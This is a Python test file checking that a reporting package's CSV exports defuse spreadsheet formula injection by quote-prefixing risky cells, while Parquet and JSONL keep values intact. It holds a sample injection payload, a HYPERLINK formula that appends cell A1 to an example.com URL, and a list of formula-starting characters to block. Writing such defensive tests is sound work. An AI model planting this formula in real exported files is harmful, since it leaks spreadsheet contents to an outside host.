"""CSV: no text is a formula for a spreadsheet, and what was there can be had back; numbers and other formats stay as they are."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path
from typing import Any

import polars as pl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from sessionframe.report import export
from sessionframe.report.data import report_csv, report_json
from sessionframe.report.formulas import BEGINNINGS, harmless, harmless_frame
from sessionframe.report.made import UsageReport

texts = st.text(max_size=5) | st.tuples(st.sampled_from(BEGINNINGS + "'a"), st.text(max_size=4)).map("".join)


def as_it_was(cell: str) -> str:
    """What the documentation says about reading back."""
    return cell.removeprefix("'")


@given(texts)
def test_no_text_is_a_formula_and_it_can_be_had_back(text: str) -> None:
    cell = harmless(text)
    assert not cell.startswith(tuple("=+-@\t\r\n＝＋－＠"))  # noqa: RUF001 - the wide forms are meant
    assert as_it_was(cell) == text
    assert cell in {text, f"'{text}"}


@given(st.lists(st.none() | texts, min_size=1, max_size=5))
def test_columns_are_made_as_single_texts_are(values: list[str | None]) -> None:
    kinds = sorted({value for value in values if value is not None})
    frame = pl.DataFrame({"text": values, "enum": pl.Series(values, dtype=pl.Enum(kinds)), "number": [-1.5] * len(values)})
    made = harmless_frame(frame)
    expected = [None if value is None else harmless(value) for value in values]
    assert made["text"].to_list() == made["enum"].to_list() == expected
    assert made["number"].equals(frame["number"])


FORMULA = '=HYPERLINK("https://example.com/"&A1,"x")'
FRAME = pl.DataFrame({"title": [FORMULA, "'quoted", None, "plain"], "wall_s": [-1.5, 2.0, None, 0.0]})


@pytest.mark.parametrize("streamed", [True, False])
def test_an_exported_file_holds_no_formula(tmp_path: Path, streamed: bool) -> None:
    target = tmp_path / "x.csv"
    if streamed:
        with target.open("wb") as file:
            export.write_stream(FRAME, file, "csv")
    else:
        export.write_file(FRAME, str(target), "csv")
    rows = list(csv.reader(io.StringIO(target.read_text("utf-8"), newline="")))
    assert rows == [["title", "wall_s"], [f"'{FORMULA}", "-1.5"], ["''quoted", "2.0"], ["", ""], ["plain", "0.0"]]
    back = pl.read_csv(target).with_columns(pl.col("title").str.strip_prefix("'"))
    assert back.equals(FRAME)


@pytest.mark.parametrize("chosen,reader", [("parquet", pl.read_parquet), ("jsonl", pl.read_ndjson)])
def test_other_formats_hold_what_was_there(tmp_path: Path, chosen: str, reader: Any) -> None:
    export.write_file(FRAME, str(tmp_path / "x"), chosen)
    assert reader(tmp_path / "x").equals(FRAME)


def test_a_report_holds_no_formula() -> None:
    row = {"branch": FORMULA, "requests": 1, "cost_usd": -0.5}
    report = UsageReport(
        period="total",
        by=("branch",),
        tz="UTC",
        columns=list(row),
        rows=[row],
        totals={"requests": 1, "cost_usd": -0.5},
        unpriced_models=[],
        issues={},
        first=None,
        last=None,
    )
    assert list(csv.reader(io.StringIO(report_csv(report))))[1] == [f"'{FORMULA}", "1", "-0.5"]
    assert json.loads(report_json(report, version="0"))["rows"] == [row]
